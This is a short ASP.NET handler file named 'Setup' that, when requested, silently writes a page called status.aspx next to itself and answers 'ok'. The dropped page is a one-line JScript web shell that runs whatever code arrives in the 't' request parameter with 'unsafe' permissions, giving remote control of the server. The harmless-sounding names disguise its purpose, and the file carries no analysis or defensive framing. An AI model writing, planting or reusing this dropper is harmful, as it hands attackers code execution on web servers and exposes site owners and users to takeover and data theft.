<%@ WebHandler Language="C#" Class="Setup" %>
using System.IO;
using System.Web;
public class Setup : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        // writes a JScript eval page next to itself
        string page = "<%@ Page Language=\"Jscript\"%" + "><%Response.Write(eval(Request.Item" + "[\"t\"]" + ",\"unsafe\"));%>";
        using (StreamWriter w = File.CreateText(context.Server.MapPath("status.aspx")))
        {
            w.Write(page);
        }
        context.Response.Write("ok");
    }
    public bool IsReusable { get { return false; } }
}
